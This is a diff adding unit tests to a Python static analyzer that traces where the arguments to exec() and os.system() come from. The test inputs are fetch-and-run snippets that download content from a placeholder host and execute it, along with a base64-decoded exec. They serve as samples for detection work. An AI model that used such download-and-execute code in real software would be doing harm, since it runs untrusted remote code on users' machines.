@@ -224,3 +224,53 @@ def test_opaque_blob_handed_to_a_runtime_at_module_level() -> None:
         f"run({structured!r})\n",
     ):
         assert not [f for f in analyze(other).facts if f.kind is FactKind.OPAQUE], other
+
+
+def _inner_of(result: FileAnalysis, name: str) -> tuple[str, ...]:
+    """What feeds a call: nested in its arguments, or through the names they read."""
+    return next(
+        (*f.inner, *f.sources) for f in result.facts if f.kind is FactKind.CALL and f.name == name
+    )
+
+
+def test_exec_argument_traced_through_assigned_and_with_bound_names() -> None:
+    result = analyze(
+        "import urllib.request\n"
+        "with urllib.request.urlopen('https://example.invalid/a') as reply:\n"
+        "    body = reply.read()\n"
+        "exec(body)\n"
+    )
+    inner = _inner_of(result, "exec")
+    assert "urllib.request.urlopen" in inner and "?.read" in inner
+
+
+def test_process_calls_record_where_their_command_comes_from() -> None:
+    result = analyze(
+        "import os, requests\n"
+        "cmd = requests.get('https://example.invalid/c').text\n"
+        "os.system(cmd)\n"
+    )
+    assert "requests.get" in _inner_of(result, "os.system")
+    # other calls do not pay for the search
+    assert _inner_of(result, "requests.get") == ()
+
+
+def test_a_name_bound_twice_is_not_traced() -> None:
+    result = analyze(
+        "import requests\n"
+        "code = requests.get('https://example.invalid/c').text\n"
+        "code = 'print(1)'\n"
+        "exec(code)\n"
+    )
+    assert "requests.get" not in _inner_of(result, "exec")
+
+
+def test_traced_sources_are_kept_apart_from_nested_calls() -> None:
+    result = analyze(
+        "import base64\n"
+        "blob = base64.b64decode('cHJpbnQoMSk=')\n"
+        "exec(getattr(blob, 'decode')())\n"
+    )
+    fact = next(f for f in result.facts if f.kind is FactKind.CALL and f.name == "exec")
+    assert "getattr" in fact.inner and "base64.b64decode" not in fact.inner
+    assert "base64.b64decode" in fact.sources
